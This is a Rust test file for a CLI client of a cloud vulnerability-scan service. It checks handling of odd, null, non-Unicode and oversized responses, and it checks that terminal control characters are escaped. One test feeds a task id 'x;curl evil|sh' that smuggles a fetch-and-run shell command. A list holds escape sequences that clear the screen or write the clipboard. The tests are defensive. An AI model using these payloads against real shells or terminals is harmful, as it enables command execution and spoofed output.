//! Tests of responses that the manual does not describe.

use serde_json::{Value, json};

use crate::canned::{self, Canned};
use crate::program::{Ran, TASK, follow_up, hss, hss_at, run};

fn hosts_of(body: &Value, arguments: &[&str]) -> Ran {
    let server = Canned::new([canned::json(200, &body.to_string())]);
    run(hss_at(&server.url, &["scan", "hosts", TASK]).args(arguments))
}

#[test]
fn unknown_values_are_shown_unchanged() {
    let body = json!({"total_num": 3, "data_list": [
        {"host_name": "a", "scan_status": "success", "asset_value": "common"},
        {"host_name": "b", "scan_status": "canceled", "asset_value": "core",
         "failed_reasons": [{"vul_type": "container_vul", "failed_reason": "r"}]},
        {"host_name": "c", "scan_status": "canceled", "asset_value": "test"},
    ]});
    let table = hosts_of(&body, &[]);
    assert_eq!(
        table.printed(),
        "HOST NAME  PUBLIC IP  PRIVATE IP  IMPORTANCE  STATUS    CAUSES\n\
         a          -          -           common      success   -\n\
         b          -          -           core        canceled  container_vul: r\n\
         c          -          -           test        canceled  -\n"
    );
    let said = "shown unchanged:";
    assert_eq!(
        table.stderr,
        format!(
            "warning: unknown values of asset_value, {said} \"core\"\nwarning: unknown values of scan_status, {said} \"canceled\"\nwarning: unknown values of vul_type, {said} \"container_vul\"\n3 servers\n"
        )
    );
    let document = hosts_of(&body, &["-o", "json"]);
    assert_eq!(document.json(), body);
    assert_eq!(document.stderr.lines().count(), 3);
    assert_eq!(hosts_of(&body, &["-q"]).stderr, "");
}

#[test]
fn null_is_shown_as_missing() {
    for host in [
        json!({"host_id": "h1", "host_name": null, "public_ip": "", "failed_reasons": null}),
        json!({"failed_reasons": [null]}),
        json!({"failed_reasons": [{"vul_type": null, "failed_reason": null}]}),
        json!({}),
    ] {
        let ran = hosts_of(&json!({"total_num": 1, "data_list": [host]}), &[]);
        assert_eq!(
            ran.printed().lines().nth(1),
            Some("-          -          -           -           -       -"),
            "{host}"
        );
        assert_eq!(ran.stderr, "1 server\n");
    }
    let nothing = json!({"total_num": 0, "data_list": null});
    let ran = hosts_of(&nothing, &[]);
    assert_eq!(
        (ran.printed().lines().count(), ran.stderr.as_str()),
        (1, "0 servers in the default enterprise project; --enterprise-project-id all_granted_eps searches all\n")
    );
    assert_eq!(hosts_of(&nothing, &["-o", "json"]).json(), json!({"total_num": 0, "data_list": []}));
}

#[test]
fn null_rows_are_left_out_with_a_message() {
    let ran = hosts_of(&json!({"total_num": 3, "data_list": [null, {"host_id": "h"}, null]}), &["-o", "ndjson"]);
    assert_eq!(ran.printed(), "{\"host_id\":\"h\"}\n");
    assert_eq!(ran.stderr, "the service sent 2 empty rows among the servers; they are not shown\n");
}

#[test]
fn long_unknown_values_are_truncated_in_warnings() {
    let host = json!({"host_name": "a", "scan_status": "x".repeat(1_000_000)});
    let ran = hosts_of(&json!({"total_num": 1, "data_list": [host]}), &["-o", "json"]);
    assert!(ran.stderr.len() < 300 && ran.stderr.contains("xxx…\""), "{} bytes", ran.stderr.len());
}

#[test]
fn suggested_commands_quote_ids_of_the_server() {
    let id = "x;curl evil|sh";
    let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
    let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
    assert_eq!(started.printed(), "x;curl evil|sh\n");
    assert_eq!(
        started.stderr,
        format!("started; follow it with: {}\n", follow_up(&server.url, "scan wait 'x;curl evil|sh'"))
    );
    let server = Canned::new([canned::json(200, &json!({"task_id": "--html=x y"}).to_string())]);
    let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
    assert_eq!(
        started.stderr,
        format!("started; follow it with: {}\n", follow_up(&server.url, "scan wait -- '--html=x y'"))
    );
    // A printed id can be passed to a command.
    let server = Canned::new([canned::json(200, r#"{"total_num":1,"data_list":[{"id":"-x","status":"finished"}]}"#)]);
    run(&mut hss_at(&server.url, &["scan", "wait", "--", "-x"])).printed();
}

#[test]
fn request_ids_are_truncated_in_messages() {
    let answer = |body: &Value| {
        let mut answer = canned::json(200, &body.to_string());
        answer.headers.insert("X-Request-Id".to_owned(), "r".repeat(60_000));
        answer
    };
    let nothing = json!({"total_num": 0, "data_list": []});
    for (body, arguments) in [
        (&nothing, &["scan", "list", "-v"][..]),
        (&nothing, &["scan", "show", "t1"]),
        (&nothing, &["api", "ListVulScanTask", "-v"]),
        (&json!({}), &["scan", "start", "--all-hosts"]),
    ] {
        let server = Canned::new([answer(body)]);
        let ran = run(&mut hss_at(&server.url, arguments));
        assert!(ran.stderr.contains("rrr…") && ran.stderr.len() < 700, "{arguments:?}: {} bytes", ran.stderr.len());
    }
}

#[test]
fn start_reports_a_started_scan_whose_id_cannot_be_displayed() {
    for (id, said) in [
        ("x".repeat(3_000_000), "the response has a task id of 3000000 characters"),
        ("x".repeat(257), "the response has a task id of 257 characters"),
        ("t\u{1b}[2J".to_owned(), "the response has a task id with hidden characters"),
        ("t\n2".to_owned(), "the response has a task id with hidden characters"),
        (String::new(), "the response has no task id"),
    ] {
        for more in [&[][..], &["--wait"], &["-q", "-o", "json"]] {
            let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
            let ran = run(hss_at(&server.url, &["scan", "start", "--all-hosts"]).args(more));
            let said = format!("error: CreateVulnerabilityScanTask: {said} (request id ");
            assert!(ran.failed_with(1).starts_with(&said), "{more:?}: {}", ran.stderr);
            assert!(
                ran.stderr.ends_with(&format!(
                    "). The scan has started: see {}\n",
                    follow_up(&server.url, "scan list --max 5")
                )),
                "{more:?}: {}",
                ran.stderr
            );
            assert_eq!(server.requests().len(), 1, "{more:?}");
        }
    }
    let id = "x".repeat(256);
    let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
    assert_eq!(run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"])).printed(), format!("{id}\n"));
}

#[test]
fn start_reports_a_started_scan_whose_id_is_not_unicode() {
    for more in [&[][..], &["--wait"], &["-q", "-o", "json"]] {
        let server = Canned::new([canned::json(200, r#"{"task_id":"t\ud800"}"#)]);
        let ran = run(hss_at(&server.url, &["scan", "start", "--all-hosts"]).args(more));
        let said =
            "error: CreateVulnerabilityScanTask: the response has a task id that is not valid Unicode (request id ";
        assert!(ran.failed_with(1).starts_with(said), "{more:?}: {}", ran.stderr);
        let hint = format!("). The scan has started: see {}\n", follow_up(&server.url, "scan list --max 5"));
        assert!(ran.stderr.ends_with(&hint), "{}", ran.stderr);
        assert_eq!(server.requests().len(), 1, "{more:?}");
    }
    // If the service itself sends U+FFFD, it is part of the id.
    let server = Canned::new([canned::json(200, r#"{"task_id":"t\ufffd"}"#)]);
    assert_eq!(run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"])).printed(), "t\u{fffd}\n");
}

#[test]
fn ids_of_servers_that_are_not_unicode_are_not_sent() {
    let server = Canned::new([canned::json(
        200,
        r#"{"total_num":1,"data_list":[{"host_name":"web-1","host_id":"h1","agent_id":"a\ud800"}]}"#,
    )]);
    let ran = run(&mut hss_at(&server.url, &["scan", "start", "web-1", "-q"]));
    assert_eq!(
        ran.failed_with(1),
        "error: the service returned an id that is not valid Unicode for the agent on \"web-1\". No scan was started.\n"
    );
    assert_eq!(server.requests().len(), 1);
    let server =
        Canned::new([canned::json(200, r#"{"total_num":1,"data_list":[{"host_name":"web-1","host_id":"h\ud800"}]}"#)]);
    let ran = run(&mut hss_at(&server.url, &["scan", "rescan", TASK, "web-1", "-q"]));
    assert_eq!(
        ran.failed_with(1),
        "error: the service returned an id that is not valid Unicode for the server \"web-1\". No scan was started.\n"
    );
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn replaced_text_of_a_task_is_reported() {
    let note = "the service sent text that is not valid Unicode: invalid parts are shown as U+FFFD\n";
    let task = r#"{"total_num":1,"data_list":[{"id":"t1","status":"finished","scan_type":"m\ud800"}]}"#;
    for arguments in [&["scan", "show", "t1"][..], &["scan", "wait", "t1"]] {
        let server = Canned::new([canned::json(200, task)]);
        let ran = run(&mut hss_at(&server.url, arguments));
        assert!(ran.printed().contains("m\u{fffd}") && ran.stderr.starts_with(note), "{ran:?}");
    }
}

#[test]
fn an_out_of_range_number_error_names_row_and_field() {
    let body = r#"{"total_num":2,"data_list":[{"id":"t1"},{"id":"t2","failed_host_num":3000000000}]}"#;
    let server = Canned::new([canned::json(200, body)]);
    let ran = run(&mut hss_at(&server.url, &["scan", "list"]));
    let said = "error: ListVulScanTask at offset 0: invalid response: unexpected value at data_list[1].failed_host_num (HTTP 200";
    assert!(ran.stderr.starts_with(said), "{}", ran.stderr);
    assert!(ran.stderr.contains("integer `3000000000`, expected i32"), "{}", ran.stderr);
    assert_eq!(ran.status, Some(1));
}

#[test]
fn names_and_ids_are_truncated_in_errors() {
    let row = format!(r#"{{"host_name":"web-1","host_id":"{}"}}"#, "x".repeat(1_000_000));
    let body = format!(r#"{{"total_num":2,"data_list":[{row},{{"host_name":"web-1","host_id":"h2"}}]}}"#);
    let server = Canned::new([canned::json(200, &body)]);
    let ran = run(&mut hss_at(&server.url, &["scan", "rescan", TASK, "web-1"]));
    assert!(
        ran.failed_with(4).contains("2 servers have the name") && ran.stderr.len() < 600,
        "{} bytes",
        ran.stderr.len()
    );
}

#[test]
fn a_name_that_is_not_unicode_does_not_fail_its_page() {
    let body = r#"{"total_num":2,"data_list":[{"host_name":"a\ud800"},{"host_name":"b"}]}"#;
    let server = Canned::new([canned::json(200, body)]);
    let ran = run(&mut hss_at(&server.url, &["scan", "hosts", TASK, "-o", "csv", "--columns", "host_name"]));
    assert_eq!(ran.printed(), "host_name\r\na\u{fffd}\r\nb\r\n");
    assert_eq!(ran.stderr, "the service sent text that is not valid Unicode: invalid parts are shown as U+FFFD\n");
}

#[test]
fn api_repairs_invalid_unicode_only_when_converting() {
    let note = "the service sent text that is not valid Unicode: invalid parts are shown as U+FFFD\n";
    let body = r#"{"total_num":1,"data_list":[{"id":"a\ud800"}]}"#;
    for (arguments, printed, said) in [
        (&["-o", "csv", "--query", "data_list[].id"][..], "a\u{fffd}\r\n", note),
        (&["-o", "ndjson", "--query", "data_list"], "{\"id\":\"a\u{fffd}\"}\n", note),
        (&[], &format!("{body}\n"), ""),
        (&["-o", "json"], &format!("{body}\n"), ""),
    ] {
        let server = Canned::new([canned::json(200, body)]);
        let ran = run(hss_at(&server.url, &["api", "ListVulScanTask"]).args(arguments));
        assert_eq!((ran.printed(), ran.stderr.as_str()), (printed, said), "{arguments:?}");
    }
}

#[test]
fn a_response_that_is_not_a_listing_is_an_error() {
    for body in
        ["{}", "null", "[]", "\"\"", "", "<html>", r#"{"total_num":1}"#, r#"{"error_code":"HSS.0001","error_msg":"m"}"#]
    {
        for format in ["table", "json"] {
            let server = Canned::new([canned::json(200, body)]);
            run(&mut hss_at(&server.url, &["scan", "hosts", TASK, "-o", format])).failed_with(1);
        }
    }
}

/// Names that a terminal would interpret: clear the screen, set the title, write the clipboard, forge a row, reverse
/// the text.
pub(crate) const ACTING: [&str; 8] = [
    "\u{1b}[2J\u{1b}[1;1Hfake",
    "\u{1b}]0;t\u{7}",
    "\u{1b}]52;c;aGk=\u{7}",
    "\u{9b}31m",
    "a\rb",
    "a\nb",
    "\u{202e}txt",
    "\u{7f}",
];

#[test]
fn control_characters_in_rows_are_escaped() {
    let names: Vec<_> = ACTING.into_iter().chain(["生产-数据库-01"]).collect();
    let hosts: Vec<_> = names.iter().map(|name| json!({"host_name": name, "scan_status": "failed"})).collect();
    let body = json!({"total_num": names.len(), "data_list": hosts});
    let is_dangerous = |character: char| (character.is_control() && character != '\n') || character == '\u{202e}';

    let table = hosts_of(&body, &[]);
    assert_eq!(table.printed().lines().count(), 1 + names.len());
    assert!(!table.stdout.contains(is_dangerous), "{table:?}");
    assert!(table.stdout.contains("\na\\u{a}b ") && table.stdout.contains("\n生产-数据库-01 "), "{table:?}");

    let document = hosts_of(&body, &["-o", "json"]);
    assert!(!document.stdout.contains(is_dangerous), "{document:?}");
    assert!(document.stdout.contains(r#""\u202etxt""#) && document.stdout.contains("生产"), "{document:?}");
    assert_eq!(document.json(), body, "the values stay");
}

#[test]
fn control_characters_in_error_messages_are_escaped() {
    let body = json!({"error_code": "HSS.1\u{1b}[2J", "error_msg": "a\u{1b}]0;t\u{7}b"});
    let mut answer = canned::json(400, &body.to_string());
    answer.headers.insert("X-Request-Id".to_owned(), "r-1".to_owned());
    let server = Canned::new([answer]);
    let ran = run(&mut hss_at(&server.url, &["scan", "hosts", TASK]));
    assert_eq!(
        ran.failed_with(1),
        "error: ListVulScanTaskHost at offset 0: a\\u{1b}]0;t\\u{7}b (HTTP 400, HSS.1\\u{1b}[2J, request id r-1)\n"
    );
}

#[test]
fn a_failed_later_page_writes_no_document() {
    let page: Vec<_> = (0..10).map(|number| json!({"host_name": format!("h{number}")})).collect();
    let first = json!({"total_num": 30, "data_list": page}).to_string();
    let changed = json!({"total_num": 29, "data_list": page}).to_string();
    for (second, status) in [
        (canned::cut(&first), 1),
        (canned::json(502, "<html>"), 1),
        (canned::json(401, r#"{"error_code":"APIGW.0301","error_msg":"m"}"#), 3),
        (canned::raw(""), 1),
        (canned::json(200, &changed), 6),
    ] {
        let arguments = ["scan", "hosts", TASK, "--page-size", "10", "-o"];
        let server = Canned::new([canned::json(200, &first), second.clone()]);
        let document = run(hss_at(&server.url, &arguments).arg("json"));
        assert!(document.failed_with(status).contains("at offset 10"), "{second:?}: {document:?}");

        let server = Canned::new([canned::json(200, &first), second.clone()]);
        let table = run(hss_at(&server.url, &arguments).arg("table"));
        assert_eq!(table.status, Some(status), "{second:?}: {table:?}");
        assert!(table.stdout.lines().count() > 10, "rows that came are shown: {table:?}");
        assert!(
            table.stderr.contains(" of 30 servers\nerror: ListVulScanTaskHost at offset 10: "),
            "{second:?}: {table:?}"
        );
    }
}

#[test]
fn a_response_that_needs_much_memory_is_not_converted() {
    let body = format!("{{\"total_num\":1,\"data_list\":[{{\"k\":1}}{}]}}", ",{\"kkkkkkkkkk\":1}".repeat(70_000));
    let server = Canned::new([canned::json(200, &body), canned::json(200, &body)]);
    let call = ["api", "ListVulScanTaskHost", "--task_id", TASK];
    let ran = run(hss_at(&server.url, &call).args(["-o", "csv"]));
    assert!(ran.failed_with(1).contains("the limit is 1048576. Request fewer rows with --limit"), "{}", ran.stderr);
    assert_eq!(run(hss_at(&server.url, &call).args(["-o", "json"])).printed().len(), body.len() + 1);

    // Nested lists take the most memory for their size.
    for (open, close, count) in [("[", "]", 1100), ("{\"a\":0,\"\":", "}", 600)] {
        let nested = format!("{}0{}", open.repeat(100), close.repeat(100));
        let nested = format!("[{}]", vec![nested; count].join(","));
        let server = Canned::new([canned::json(200, &nested)]);
        let ran = run(hss_at(&server.url, &call).args(["--query", "@"]));
        assert!(ran.failed_with(1).contains("more than 100000 list members and fields"), "{}", ran.stderr);
    }
}

#[test]
fn a_page_with_long_causes_is_converted() {
    let types = ["linux_vul", "windows_vul", "web_cms", "app_vul", "urgent_vul", "emergency_vul"];
    let reason = "the agent is offline; restart it, [see the manual], and try again. ".repeat(3);
    let causes = |_| types.map(|kind| json!({"vul_type": kind, "status": "failed", "failed_reason": reason}));
    let rows: Vec<_> =
        (0..200).map(|row| json!({"host_id": row.to_string(), "vul_scan_details": causes(row)})).collect();
    let body = json!({"total_num": 200, "data_list": rows}).to_string();
    assert!(body.len() > 300_000);
    let server = Canned::new([canned::json(200, &body), canned::json(200, &body)]);
    let ran = run(&mut hss_at(
        &server.url,
        &["api", "ListVulScanTaskHost", "--task_id", TASK, "--query", "length(data_list)"],
    ));
    assert_eq!(ran.printed(), "200\n");
    let ran = run(&mut hss_at(&server.url, &["scan", "hosts", TASK, "--query", "length(data_list)"]));
    assert_eq!(ran.printed(), "200\n");
}

#[test]
fn an_oversized_response_is_not_read() {
    let body = json!({"total_num": 1, "data_list": [{"host_name": "\u{7f}".repeat(5_000_000)}]});
    for more in [&["-o", "json"][..], &["--group-by", "cause"], &["--query", "@"]] {
        let ran = hosts_of(&body, more);
        assert!(ran.failed_with(1).contains("the response is larger than the limit of 4194304 bytes"), "{more:?}");
        assert!(ran.stderr.contains(". Request fewer rows"), "{more:?}: {}", ran.stderr);
    }
    let detail = json!({"vul_type": "", "status": ""});
    let body = json!({"total_num": 1, "data_list": [{"vul_scan_details": vec![detail; 60_000]}]});
    let ran = hosts_of(&body, &["--query", "@"]);
    assert!(ran.failed_with(1).contains("more than 100000 list members and fields"), "{}", ran.stderr);
    hosts_of(&body, &["-o", "csv"]).printed();
}

#[test]
fn an_oversized_iam_response_is_not_read() {
    let body = json!({"projects": [{"id": "\u{7f}".repeat(2_000_000)}]}).to_string();
    let server = Canned::new([canned::json(200, &body)]);
    let mut command = hss(&["--endpoint", &server.url, "--iam-endpoint", &server.url, "--region", "cn-north-4"]);
    let ran = run(command.args(["scan", "list"]).env("HW_AUTH_TOKEN", "t"));
    let said = "error: KeystoneListProjects: the response is larger than the limit of 1048576 bytes (HTTP 200";
    assert!(ran.failed_with(1).starts_with(said), "{}", ran.stderr);
}
